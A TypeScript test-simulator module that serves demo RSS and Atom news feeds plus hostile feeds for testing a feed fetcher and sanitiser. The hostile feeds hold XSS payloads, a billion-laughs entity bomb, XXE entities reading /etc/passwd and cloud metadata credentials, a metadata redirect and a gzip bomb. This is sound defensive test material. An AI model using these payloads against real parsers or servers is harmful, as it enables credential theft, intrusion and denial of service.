// News feeds of the collectivités' web sites, for the news widget, and hostile feeds for the
// tests of the BFF's feed fetcher and sanitiser. Formats: RSS 2.0 (RSS Advisory Board
// specification, rssboard.org/rss-specification) and Atom 1.0 (RFC 4287). Feeds are public (no
// credentials), carry ETag and Last-Modified and answer 304 to a matching conditional request.
import { gzipSync } from 'node:zlib';
import { COLLECTIVITE_NAMES, type BusinessData, type Collectivite, type NewsItemSeed } from '../business-data.js';
import { minutesBefore } from '../demo-data.js';
import { header, type AppHandler, type SimResponse } from '../http.js';

export interface FeedsOptions {
  data: BusinessData;
  now: () => Date;
}

/** Hostile or broken feeds served under `/hostile/<name>`, for the fetcher and sanitiser tests. */
export const HOSTILE_FEEDS = {
  'script.rss':
    'RSS 2.0 whose texts and links carry script: <script>, on* attributes, javascript:/data:/vbscript: links, <iframe>, <style>, <svg onload>',
  'script.atom':
    'Atom 1.0 with the same payloads in html and xhtml content, javascript: hrefs and a javascript: xml:base',
  'billion-laughs.rss': 'nested internal entities (exponential expansion) used in a title',
  'external-entity.rss': 'external entities: file:///etc/passwd, a link-local metadata address, a parameter entity',
  'malformed.rss': 'not well-formed XML: unclosed elements, a bare &, a stray closing tag',
  'truncated.rss': 'a feed cut in the middle of an item',
  'huge.rss': 'many items (?items=N, default 50 000: about 12 MB)',
  'huge-item.rss': 'one item whose description is 8 MB',
  'deep.rss': '50 000 nested elements inside an item',
  'slow.rss': 'headers only after ?delayMs= (default 30 000 ms)',
  'trickle.rss': 'a valid three-item feed sent 16 bytes every 500 ms (about 50 s in all)',
  'gzip-bomb.rss': 'Content-Encoding gzip: 64 KB on the wire, 64 MB once inflated',
  'not-a-feed.rss': 'an HTML page served as text/html',
  'redirect.rss': '302 to a link-local metadata address',
  'odd.rss': 'legal but odd: missing titles, unparsable and far-future dates, duplicate guids, relative links',
} as const;
export type HostileFeed = keyof typeof HOSTILE_FEEDS;

const RSS_TYPE = 'application/rss+xml; charset=utf-8';
const ATOM_TYPE = 'application/atom+xml; charset=utf-8';

function xmlEscape(s: string): string {
  return s.replace(
    /[<>&"']/g,
    (c) => ({ '<': '&lt;', '>': '&gt;', '&': '&amp;', '"': '&quot;', "'": '&apos;' })[c] ?? c,
  );
}

/** A CDATA section that stays one even when the text holds `]]>`. */
function cdata(s: string): string {
  return `<![CDATA[${s.replaceAll(']]>', ']]]]><![CDATA[>')}]]>`;
}

function rss(channel: { title: string; link: string; description: string; self: string }, items: string[]): string {
  return `<?xml version="1.0" encoding="UTF-8"?>
<rss version="2.0" xmlns:atom="http://www.w3.org/2005/Atom" xmlns:dc="http://purl.org/dc/elements/1.1/">
<channel>
<title>${xmlEscape(channel.title)}</title>
<link>${xmlEscape(channel.link)}</link>
<description>${xmlEscape(channel.description)}</description>
<language>fr-FR</language>
<atom:link href="${xmlEscape(channel.self)}" rel="self" type="application/rss+xml"/>
${items.join('\n')}
</channel>
</rss>
`;
}

function rssItem(item: NewsItemSeed, link: string, date: Date): string {
  return `<item>
<title>${xmlEscape(item.title)}</title>
<link>${xmlEscape(link)}</link>
<guid isPermaLink="true">${xmlEscape(link)}</guid>
<pubDate>${date.toUTCString()}</pubDate>
<dc:creator>${xmlEscape(item.author)}</dc:creator>
<category>${xmlEscape(item.category)}</category>
<description>${cdata(item.summaryHtml)}</description>
</item>`;
}

function atom(
  feed: { title: string; id: string; link: string; self: string; updated: Date },
  entries: string[],
): string {
  return `<?xml version="1.0" encoding="utf-8"?>
<feed xmlns="http://www.w3.org/2005/Atom" xml:lang="fr">
<title>${xmlEscape(feed.title)}</title>
<id>${xmlEscape(feed.id)}</id>
<link rel="alternate" type="text/html" href="${xmlEscape(feed.link)}"/>
<link rel="self" type="application/atom+xml" href="${xmlEscape(feed.self)}"/>
<updated>${feed.updated.toISOString()}</updated>
${entries.join('\n')}
</feed>
`;
}

function atomEntry(item: NewsItemSeed, link: string, id: string, date: Date): string {
  return `<entry>
<title type="text">${xmlEscape(item.title)}</title>
<id>${xmlEscape(id)}</id>
<link rel="alternate" type="text/html" href="${xmlEscape(link)}"/>
<published>${date.toISOString()}</published>
<updated>${date.toISOString()}</updated>
<author><name>${xmlEscape(item.author)}</name></author>
<category term="${xmlEscape(item.category)}"/>
<summary type="html">${xmlEscape(item.summaryHtml)}</summary>
</entry>`;
}

const SCRIPT_PAYLOADS = [
  '<script>alert("xss")</script>',
  '<img src=x onerror="alert(1)">',
  '<iframe src="javascript:alert(2)"></iframe>',
  '<svg onload=alert(3)><circle r="1"/></svg>',
  '<a href="javascript:alert(4)">lire la suite</a>',
  '<a href="jav&#x09;ascript:alert(5)">encodé</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCg2KTwvc2NyaXB0Pg==">données</a>',
  '<a href="vbscript:msgbox(7)">vbscript</a>',
  '<style>body{background:url("javascript:alert(8)")}</style>',
  '<p style="background-image:url(javascript:alert(9))" onclick="alert(10)">paragraphe</p>',
  '<form action="https://collecte.example.test/vol"><input name="mdp" type="password"></form>',
  '<object data="https://tracker.example.test/x.swf"></object><embed src="https://tracker.example.test/x.swf">',
  '<img src="https://tracker.example.test/pixel.gif?u=agent" width="1" height="1">',
  '<meta http-equiv="refresh" content="0;url=https://phishing.example.test/">',
];

const HOSTILE_LINKS = [
  'javascript:alert(document.cookie)',
  'JaVaScRiPt:alert(1)',
  ' javascript:alert(2)',
  'data:text/html,<script>alert(3)</script>',
  'vbscript:msgbox(4)',
  '//phishing.example.test/connexion',
  'file:///etc/passwd',
];

function hostileBody(name: HostileFeed, baseUrl: string, query: URLSearchParams): SimResponse {
  const xml = (body: string | Buffer, type = RSS_TYPE, extra: Record<string, string> = {}): SimResponse => ({
    status: 200,
    headers: { 'content-type': type, ...extra },
    body,
  });
  const channel = {
    title: 'Flux piégé',
    link: `${baseUrl}/`,
    description: 'Flux de test',
    self: `${baseUrl}/hostile/${name}`,
  };
  const plain = (i: number) =>
    `<item><title>Article ${i}</title><link>${baseUrl}/actualites/${i}</link><guid>${baseUrl}/actualites/${i}</guid><pubDate>Mon, 02 Nov 2026 08:00:00 GMT</pubDate><description>Résumé de l’article ${i}.</description></item>`;
  switch (name) {
    case 'script.rss':
      return xml(
        rss(
          { ...channel, link: 'javascript:alert("channel")' },
          SCRIPT_PAYLOADS.map(
            (payload, i) => `<item>
<title>${xmlEscape(`Titre ${i} ${payload}`)}</title>
<link>${xmlEscape(HOSTILE_LINKS[i % HOSTILE_LINKS.length] ?? '')}</link>
<guid isPermaLink="true">${xmlEscape(HOSTILE_LINKS[(i + 1) % HOSTILE_LINKS.length] ?? '')}</guid>
<pubDate>Mon, 02 Nov 2026 08:0${i % 10}:00 GMT</pubDate>
<description>${cdata(`<p>Résumé ${i}</p>${payload}`)}</description>
<enclosure url="${xmlEscape('javascript:alert("enclosure")')}" length="1" type="image/png"/>
</item>`,
          ),
        ),
      );
    case 'script.atom':
      return xml(
        `<?xml version="1.0" encoding="utf-8"?>
<feed xmlns="http://www.w3.org/2005/Atom" xml:base="javascript:alert('base')//">
<title type="html">${xmlEscape('Actualités <script>alert("feed")</script>')}</title>
<id>urn:uuid:6f1c6a4e-6a2f-4d0b-9a57-2f5d0b6a9c11</id>
<updated>2026-11-02T08:00:00Z</updated>
${SCRIPT_PAYLOADS.map(
  (payload, i) => `<entry>
<title type="html">${xmlEscape(`Titre ${i} ${payload}`)}</title>
<id>urn:uuid:00000000-0000-4000-8000-${String(i).padStart(12, '0')}</id>
<link rel="alternate" href="${xmlEscape(HOSTILE_LINKS[i % HOSTILE_LINKS.length] ?? '')}"/>
<updated>2026-11-02T08:0${i % 10}:00Z</updated>
<summary type="html">${xmlEscape(payload)}</summary>
<content type="xhtml"><div xmlns="http://www.w3.org/1999/xhtml"><p>Contenu ${i}</p><script>alert(${i})</script><a href="javascript:alert(${i})">lien</a></div></content>
</entry>`,
).join('\n')}
</feed>
`,
        ATOM_TYPE,
      );
    case 'billion-laughs.rss': {
      const entities = ['<!ENTITY lol "lol">'];
      for (let level = 1; level <= 9; level += 1) {
        entities.push(`<!ENTITY lol${level} "${`&lol${level === 1 ? '' : level - 1};`.repeat(10)}">`);
      }
      return xml(`<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE rss [
${entities.join('\n')}
]>
<rss version="2.0"><channel><title>Rires</title><link>${baseUrl}/</link><description>&lol9;</description>
<item><title>&lol9;</title><link>${baseUrl}/actualites/lol</link><description>&lol9;</description></item>
</channel></rss>
`);
    }
    case 'external-entity.rss':
      return xml(`<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE rss [
<!ENTITY passwd SYSTEM "file:///etc/passwd">
<!ENTITY metadata SYSTEM "http://169.254.169.254/latest/meta-data/iam/security-credentials/">
<!ENTITY % remote SYSTEM "http://169.254.169.254/evil.dtd">
%remote;
]>
<rss version="2.0"><channel><title>Entités externes</title><link>${baseUrl}/</link><description>x</description>
<item><title>&passwd;</title><link>${baseUrl}/actualites/xxe</link><description>&metadata;</description></item>
</channel></rss>
`);
    case 'malformed.rss':
      return xml(`<?xml version="1.0" encoding="UTF-8"?>
<rss version="2.0"><channel><title>Cassé & mal fermé</title>
<item><title>Premier article<link>${baseUrl}/actualites/1</link></item>
</description>
<item><title>Second</title>
</channel>
`);
    case 'truncated.rss':
      return xml(rss(channel, [plain(1), plain(2), plain(3)]).slice(0, 600));
    case 'huge.rss': {
      const count = Math.min(Math.max(Number(query.get('items') ?? 50_000) || 50_000, 1), 500_000);
      return xml(
        rss(
          channel,
          Array.from({ length: count }, (_, i) => plain(i)),
        ),
      );
    }
    case 'huge-item.rss':
      return xml(
        rss(channel, [
          `<item><title>Énorme</title><link>${baseUrl}/actualites/enorme</link><description>${'A'.repeat(8 * 1024 * 1024)}</description></item>`,
        ]),
      );
    case 'deep.rss':
      return xml(
        rss(channel, [
          `<item><title>Profond</title><link>${baseUrl}/actualites/profond</link><description>${'<div>'.repeat(50_000)}x${'</div>'.repeat(50_000)}</description></item>`,
        ]),
      );
    case 'slow.rss':
      return xml(rss(channel, [plain(1)]));
    case 'trickle.rss':
      return { ...xml(rss(channel, [plain(1), plain(2), plain(3)])), trickle: { chunkBytes: 16, intervalMs: 500 } };
    case 'gzip-bomb.rss':
      return xml(gzipBomb(), RSS_TYPE, { 'content-encoding': 'gzip' });
    case 'not-a-feed.rss':
      return {
        status: 200,
        headers: { 'content-type': 'text/html; charset=utf-8' },
        body: '<!DOCTYPE html><html lang="fr"><head><title>Mairie</title></head><body><h1>Bienvenue</h1><script>alert(1)</script></body></html>',
      };
    case 'redirect.rss':
      return { status: 302, headers: { location: 'http://169.254.169.254/latest/meta-data/' }, body: '' };
    case 'odd.rss':
      return xml(
        rss(channel, [
          `<item><link>${baseUrl}/actualites/sans-titre</link><description>Un article sans titre.</description><pubDate>hier matin</pubDate></item>`,
          `<item><title>Venu du futur</title><link>/actualites/relatif</link><guid>doublon</guid><pubDate>Fri, 01 Jan 2100 00:00:00 GMT</pubDate></item>`,
          `<item><title>Doublon</title><link>${baseUrl}/actualites/doublon</link><guid>doublon</guid><pubDate>Mon, 02 Nov 2026 08:00:00 +0100</pubDate></item>`,
          `<item><title></title></item>`,
          `<item><title>${xmlEscape('Titre très long '.repeat(200))}</title><link>${baseUrl}/actualites/long</link></item>`,
        ]),
      );
  }
}

let bomb: Buffer | undefined;
function gzipBomb(): Buffer {
  bomb ??= gzipSync(Buffer.alloc(64 * 1024 * 1024, 0x20), { level: 9 });
  return bomb;
}

function isCollectivite(value: string): value is Collectivite {
  return value === 'demo-a' || value === 'demo-b';
}

export function createFeedsHandler(options: FeedsOptions): AppHandler {
  return async (req, _body, baseUrl) => {
    const url = new URL(req.url ?? '/', 'http://simulator');
    if (req.method !== 'GET' && req.method !== 'HEAD') {
      return { status: 405, headers: { allow: 'GET, HEAD' }, body: '' };
    }
    const hostile = /^\/hostile\/([\w.-]+)$/.exec(url.pathname)?.[1];
    if (hostile !== undefined) {
      if (!(hostile in HOSTILE_FEEDS))
        return { status: 404, headers: { 'content-type': 'text/plain' }, body: 'Not Found' };
      const name = hostile as HostileFeed;
      if (name === 'slow.rss') {
        const delay = Math.min(Math.max(Number(url.searchParams.get('delayMs') ?? 30_000) || 0, 0), 120_000);
        await new Promise((resolve) => setTimeout(resolve, delay));
      }
      return hostileBody(name, baseUrl, url.searchParams);
    }
    if (url.pathname === '/') {
      const links = (Object.keys(COLLECTIVITE_NAMES) as Collectivite[])
        .map(
          (c) =>
            `<link rel="alternate" type="application/rss+xml" href="/${c}/rss.xml" title="${xmlEscape(COLLECTIVITE_NAMES[c])}">`,
        )
        .join('');
      return {
        status: 200,
        headers: { 'content-type': 'text/html; charset=utf-8' },
        body: `<!DOCTYPE html><html lang="fr"><head><title>Actualités</title>${links}</head><body></body></html>`,
      };
    }
    const m = /^\/([\w-]+)\/(rss\.xml|atom\.xml|actualites\/([\w-]+))$/.exec(url.pathname);
    const collectivite = m?.[1];
    if (!m || collectivite === undefined || !isCollectivite(collectivite)) {
      return { status: 404, headers: { 'content-type': 'text/plain' }, body: 'Not Found' };
    }
    const news = options.data.news[collectivite];
    const now = options.now();
    const site = `${baseUrl}/${collectivite}`;
    const link = (item: NewsItemSeed) => `${site}/actualites/${item.slug}`;
    const items = [...news.items].sort((a, b) => a.minutesAgo - b.minutesAgo);
    if (m[3] !== undefined) {
      const item = items.find((i) => i.slug === m[3]);
      if (!item) return { status: 404, headers: { 'content-type': 'text/plain' }, body: 'Not Found' };
      return {
        status: 200,
        headers: { 'content-type': 'text/html; charset=utf-8' },
        body: `<!DOCTYPE html><html lang="fr"><title>${xmlEscape(item.title)}</title><body><h1>${xmlEscape(item.title)}</h1>${item.summaryHtml}</body></html>`,
      };
    }
    // Dates move with the clock, so the version is the newest item's minute.
    const newest = minutesBefore(now, items[0]?.minutesAgo ?? 0);
    const lastModified = new Date(Math.floor(newest.getTime() / 60_000) * 60_000);
    const etag = `"${collectivite}-${m[2]}-${lastModified.getTime().toString(36)}-${items.length}"`;
    const cacheHeaders = { etag, 'last-modified': lastModified.toUTCString(), 'cache-control': 'max-age=300' };
    const inm = header(req, 'if-none-match');
    const ims = header(req, 'if-modified-since');
    if (
      (inm !== undefined &&
        inm
          .split(',')
          .map((s) => s.trim())
          .includes(etag)) ||
      (inm === undefined && ims !== undefined && Date.parse(ims) >= lastModified.getTime())
    ) {
      return { status: 304, headers: cacheHeaders };
    }
    const title = news.title;
    if (m[2] === 'rss.xml') {
      return {
        status: 200,
        headers: { 'content-type': RSS_TYPE, ...cacheHeaders },
        body: rss(
          { title, link: `${site}/`, description: news.description, self: `${site}/rss.xml` },
          items.map((item) => rssItem(item, link(item), minutesBefore(now, item.minutesAgo))),
        ),
      };
    }
    return {
      status: 200,
      headers: { 'content-type': ATOM_TYPE, ...cacheHeaders },
      body: atom(
        {
          title,
          id: `tag:${collectivite}.pleiade.test,2026:actualites`,
          link: `${site}/`,
          self: `${site}/atom.xml`,
          updated: newest,
        },
        items.map((item) =>
          atomEntry(
            item,
            link(item),
            `tag:${collectivite}.pleiade.test,2026:${item.slug}`,
            minutesBefore(now, item.minutesAgo),
          ),
        ),
      ),
    };
  };
}
